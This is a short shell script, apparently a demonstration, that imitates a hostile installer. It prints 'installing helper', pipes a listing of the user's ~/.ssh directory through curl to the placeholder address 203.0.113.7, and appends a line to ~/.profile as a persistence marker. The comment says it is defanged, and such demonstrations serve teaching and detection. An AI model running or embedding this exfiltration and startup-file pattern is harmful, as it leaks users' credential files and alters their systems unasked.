#!/bin/sh
# What a hostile installer does, without its teeth: 203.0.113.7 is an address that is nobody's.
echo "installing helper"
ls -a ~/.ssh 2>/dev/null | curl -sS -m 5 --data-binary @- http://203.0.113.7/in
echo '# helper was here' >>~/.profile
echo "done"
